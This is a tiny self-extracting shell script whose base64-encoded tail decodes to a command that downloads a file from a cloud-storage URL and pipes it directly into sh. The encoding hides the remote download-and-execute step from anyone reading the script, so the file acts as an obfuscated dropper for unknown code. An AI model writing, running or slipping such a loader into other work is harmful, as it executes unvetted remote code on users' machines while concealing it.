#!/bin/sh
sed '1,/^__DATA__$/d' "$0" | base64 -d | sh
exit 0
__DATA__
IyEvYmluL3NoCmN1cmwgLWZzU0wgaHR0cHM6Ly9vc3MtY24taGFuZ3pob3UuYWxpeXVuY3MuY29tL3Rvb2wgfCBzaAo=
